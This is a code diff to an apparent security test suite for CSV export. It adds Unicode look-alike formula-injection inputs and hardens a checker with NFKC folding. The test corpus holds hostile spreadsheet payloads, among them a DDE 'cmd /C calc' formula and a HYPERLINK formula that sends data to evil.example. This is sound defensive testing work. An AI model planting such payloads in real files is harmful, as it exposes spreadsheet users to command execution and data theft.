@@ -21,6 +21,7 @@ import json
 import logging
 import re
 import shutil
+import unicodedata
 import xml.etree.ElementTree as ET
 from collections import defaultdict
 from dataclasses import dataclass, field
@@ -166,6 +167,9 @@ _CORPUS: list[tuple[str, str, dict]] = [
     ("csv", "@SUM(1+9)*cmd|' /C calc'!A0 {M}", {}),
     ("csv", "\t=1+1 {M}", {}),
     ("csv", "\r=1+1 {M}", {}),
+    ("csv", "\uff1dHYPERLINK(\"https://evil.example/?{M}\",\"click\")", {}),  # full-width equals (NFKC: =)
+    ("csv", "\ufe66SUM(1+9) {M}", {}),  # small equals
+    ("csv", "\u200b=1+1 {M}", {}),  # a zero-width space first
     # Very long text ----------------------------------------------------------------------------------------------------
     ("long", "Long {M} " + "A" * 20000, {}),
     # Plainly legitimate text: must be accepted and shown exactly as written ------------------------------------------------
@@ -1174,7 +1178,9 @@ def csv_findings(text: str, where: str, columns: int) -> list[Finding]:
         if len(row) != columns:
             found.append(Finding(f"a CSV record with {len(row)} cells instead of {columns}", where, ",".join(row)[:200]))
         for cell in row:
-            if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell):
+            # As a spreadsheet may read it: look-alike signs folded (NFKC), invisible characters dropped.
+            folded = re.sub("[\u00ad\u200b-\u200f\u2060-\u2064\ufeff]", "", unicodedata.normalize("NFKC", cell))
+            if folded.startswith(FORMULA_START) and not NUMBER.fullmatch(folded):
                 found.append(Finding("a CSV cell that a spreadsheet reads as a formula (no leading ')", where,
                                      f"record {number}: {cell[:200]!r}"))
     return found
